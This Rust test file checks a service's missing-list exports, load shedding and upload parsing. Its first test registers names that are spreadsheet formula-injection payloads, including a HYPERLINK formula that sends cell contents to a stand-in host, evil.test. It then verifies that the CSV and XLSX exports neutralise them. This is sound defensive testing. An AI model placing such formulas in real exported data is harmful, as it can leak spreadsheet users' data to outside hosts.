//! Missing lists as exports (issue 14): CSV cells a spreadsheet would run are
//! escaped, workbooks are valid for any area name and audited only when
//! they succeed, heavy reads have a budget of their own and are shed with
//! `503 overloaded` while uploads and gate lookups go on, the JSON list is
//! streamed, and uploads are parsed without the engine's lock.

use calamine::Reader;
use serde_json::json;

use crate::helpers::*;

const HOUR: i64 = 3_600_000;
const C: &str = "崇文路街道/学院社区";

/// Registers `people` (name, area) with generated IDs; returns the IDs.
async fn register(app: &TestApp, people: &[(String, String)]) -> Vec<String> {
    let mut csv = String::from("person_id,name,phone,area,household\n");
    let mut ids = Vec::new();
    for (i, (name, area)) in people.iter().enumerate() {
        let id = pid(&format!("19{}0312", 50 + i / 999), (i % 999) as u32 + 1);
        let name = name.replace('"', "\"\"");
        csv.push_str(&format!("{id},\"{name}\",+8613900000000,{area},户{i}\n"));
        ids.push(id);
    }
    let r = app.register(&csv).await;
    assert_eq!(r.status, 200, "{}", r.text());
    ids
}

/// An open round over the community; returns its id.
async fn open_round(app: &TestApp) -> String {
    let now = app.now();
    let r = app
        .create_round(ADMIN, &[C], now.plus_millis(-HOUR), now.plus_millis(HOUR))
        .await;
    assert_eq!(r.status, 201, "{}", r.text());
    r.json()["id"].as_str().unwrap().to_owned()
}

async fn missing_list_audits(app: &TestApp) -> usize {
    app.get("/v1/audit", ADMIN).await.json()["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "missing_list")
        .count()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_cells_a_spreadsheet_would_run_are_escaped_and_the_workbook_holds_strings() {
    let app = spawn_with(Opts {
        redis: false,
        ..Opts::default()
    })
    .await;
    let names = [
        "=HYPERLINK(\"http://evil.test/\"&A1,\"click\")",
        "+SUM(1,2)",
        "-2+3",
        "@cmd",
        "王芳",
    ];
    let area = format!("{C}/第01网格/01号楼/01层");
    let people: Vec<(String, String)> = names
        .iter()
        .map(|n| ((*n).to_owned(), area.clone()))
        .collect();
    register(&app, &people).await;
    let rid = open_round(&app).await;

    let r = app
        .get(&format!("/v1/rounds/{rid}/missing?format=csv"), ADMIN)
        .await;
    assert_eq!(r.status, 200, "{}", r.text());
    let mut rd = csv::Reader::from_reader(r.body.as_slice());
    let rows: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
    let mut got: Vec<String> = rows.iter().map(|r| r[1].to_owned()).collect();
    got.sort();
    let mut want: Vec<String> = names
        .iter()
        .map(|n| {
            if n.starts_with(['=', '+', '-', '@']) {
                format!("'{n}")
            } else {
                (*n).to_owned()
            }
        })
        .collect();
    want.sort();
    assert_eq!(got, want, "formula-like names carry a leading '");
    assert!(
        rows.iter().all(|r| &r[2] == "'+8613900000000"),
        "a phone with a leading + is escaped too"
    );

    // JSON keeps the names as they are.
    let j = app
        .get(&format!("/v1/rounds/{rid}/missing"), ADMIN)
        .await
        .json();
    let mut plain: Vec<&str> = j["people"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    plain.sort_unstable();
    let mut sorted = names.to_vec();
    sorted.sort_unstable();
    assert_eq!(plain, sorted);

    // XLSX: the same names as string cells, no formula anywhere.
    let r = app
        .get(&format!("/v1/rounds/{rid}/missing?format=xlsx"), ADMIN)
        .await;
    assert_eq!(r.status, 200, "{}", r.text());
    let mut wb: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(r.body)).unwrap();
    for sheet in wb.sheet_names() {
        let f = wb.worksheet_formula(&sheet).unwrap();
        assert!(f.used_cells().all(|(_, _, f)| f.is_empty()), "{sheet}");
    }
    let sheet = wb.sheet_names()[1].clone();
    let mut cells: Vec<String> = wb
        .worksheet_range(&sheet)
        .unwrap()
        .rows()
        .skip(1)
        .map(|r| match &r[1] {
            calamine::Data::String(s) => s.clone(),
            other => panic!("not a string cell: {other:?}"),
        })
        .collect();
    cells.sort();
    assert_eq!(cells, sorted);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn any_area_names_give_a_valid_workbook_audited_once() {
    let app = spawn_with(Opts {
        redis: false,
        ..Opts::default()
    })
    .await;
    let long = "很长的网格名称".repeat(5);
    let mut grids = vec![
        "'g'".to_owned(),
        "History".to_owned(),
        "history".to_owned(),
        "a[b]:c*d?e\\f".to_owned(),
        "''".to_owned(),
    ];
    grids.extend((0..120).map(|k| format!("{long}{k:03}")));
    let people: Vec<(String, String)> = grids
        .iter()
        .map(|g| ("居民".to_owned(), format!("{C}/{g}/1号楼/1层")))
        .collect();
    register(&app, &people).await;
    let rid = open_round(&app).await;

    let before = missing_list_audits(&app).await;
    let r = app
        .get(&format!("/v1/rounds/{rid}/missing?format=xlsx"), ADMIN)
        .await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(
        missing_list_audits(&app).await,
        before + 1,
        "one pull, one entry"
    );
    let wb: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(r.body)).unwrap();
    let names = wb.sheet_names();
    assert_eq!(names.len(), 1 + grids.len(), "a sheet per grid");
    let mut seen = std::collections::HashSet::new();
    for n in &names {
        assert!(rust_xlsxwriter_free_check(n), "invalid sheet name {n:?}");
        assert!(seen.insert(n.to_lowercase()), "{n:?} is not unique");
    }
}

/// Excel's sheet-name rules, written out here apart from the server's code.
fn rust_xlsxwriter_free_check(n: &str) -> bool {
    let units = n.encode_utf16().count();
    units > 0
        && units <= 31
        && !n.contains(['[', ']', ':', '*', '?', '/', '\\'])
        && !n.starts_with('\'')
        && !n.ends_with('\'')
        && !n.eq_ignore_ascii_case("history")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn heavy_reads_past_their_budget_are_shed_at_once_while_uploads_and_gates_go_on() {
    let app = spawn_app().await;
    let area = format!("{C}/第01网格/01号楼/01层");
    let ids = register(&app, &[("甲".into(), area.clone()), ("乙".into(), area)]).await;
    let rid = open_round(&app).await;
    let (_, scanner) = app.token("scanner", Some("S01"), None).await;
    let (_, gate) = app.token("gate", None, None).await;
    let state = app.running.as_ref().unwrap().state.clone();

    // The budget taken whole (as by a crowd of exports in flight).
    let held: Vec<_> = (0..rollcall::http::MAX_HEAVY_READS)
        .map(|_| state.admit_heavy_read().expect("within the budget"))
        .collect();
    let before = missing_list_audits(&app).await;
    for path in [
        format!("/v1/rounds/{rid}/missing"),
        format!("/v1/rounds/{rid}/missing?format=csv"),
        format!("/v1/rounds/{rid}/missing?format=xlsx"),
        format!("/v1/rounds/{rid}/missing?group_by=head"),
        format!("/v1/rounds/{rid}/coverage?depth=3"),
    ] {
        let r = app.get(&path, ADMIN).await;
        assert_eq!(r.status, 503, "{path}: {}", r.text());
        assert_eq!(r.code(), "overloaded", "{path}");
        assert_eq!(
            r.headers.get("retry-after").map(|v| v.to_str().unwrap()),
            Some("1"),
            "{path}"
        );
    }
    assert_eq!(
        missing_list_audits(&app).await,
        before,
        "a shed pull is not audited"
    );
    // Writes and gate lookups have budgets of their own.
    let now = app.now();
    let r = app
        .records(
            &scanner,
            json!([{"person_id": ids[0], "tube_id": "T1", "collected_at": now}]),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.json()["accepted"], 1);
    let r = app.status(&gate, &ids[1]).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let r = app.get(&format!("/v1/rounds/{rid}"), ADMIN).await;
    assert_eq!(r.status, 200, "a round's header is not a heavy read");

    drop(held);
    let r = app.get(&format!("/v1/rounds/{rid}/missing"), ADMIN).await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.json()["total"], 1, "the upload was taken");
    // Every answer gave its admission back.
    assert_eq!(
        state.heavy_reads.load(std::sync::atomic::Ordering::Acquire),
        0
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_json_list_is_streamed_and_agrees_with_the_csv() {
    let app = spawn_with(Opts {
        redis: false,
        ..Opts::default()
    })
    .await;
    let people: Vec<(String, String)> = (0..3_000)
        .map(|i| {
            (
                format!("居民{i:04}"),
                format!("{C}/第{:02}网格/01号楼/01层", i % 7),
            )
        })
        .collect();
    register(&app, &people).await;
    let rid = open_round(&app).await;
    let r = app.get(&format!("/v1/rounds/{rid}/missing"), ADMIN).await;
    assert_eq!(r.status, 200);
    assert!(
        r.headers.get("content-length").is_none(),
        "streamed in chunks, not built whole"
    );
    let j = r.json();
    assert_eq!(j["total"], 3_000);
    let r = app
        .get(&format!("/v1/rounds/{rid}/missing?format=csv"), ADMIN)
        .await;
    let mut rd = csv::Reader::from_reader(r.body.as_slice());
    let csv_names: Vec<String> = rd.records().map(|r| r.unwrap()[1].to_owned()).collect();
    let json_names: Vec<String> = j["people"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(csv_names, json_names);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upload_is_parsed_without_the_engines_lock() {
    let app = spawn_with(Opts {
        redis: false,
        ..Opts::default()
    })
    .await;
    let engine = app.running.as_ref().unwrap().state.engine.clone();
    // A writer holds the engine (as a long apply would) until told.
    let (release_tx, release_rx) = std::sync::mpsc::channel::<()>();
    let (held_tx, held_rx) = std::sync::mpsc::channel::<()>();
    let holder = std::thread::spawn(move || {
        let _w = engine.write();
        held_tx.send(()).unwrap();
        let _ = release_rx.recv_timeout(std::time::Duration::from_mins(1));
    });
    held_rx.recv().unwrap();
    // A file with a bad line is answered from the parse alone.
    let r = app
        .register("person_id,name,phone,area,household\nnot-an-id,甲,13900000000,a/b,h\n")
        .await;
    let answered_while_held = !holder.is_finished();
    let _ = release_tx.send(());
    holder.join().unwrap();
    assert!(answered_while_held, "the parse waited for the engine");
    assert_eq!(r.status, 400);
    assert_eq!(r.code(), "invalid_register");
    let r = app
        .heads("area,title,name,phone\na/b,,甲,13900000000\n")
        .await;
    assert_eq!(r.code(), "invalid_register");
}
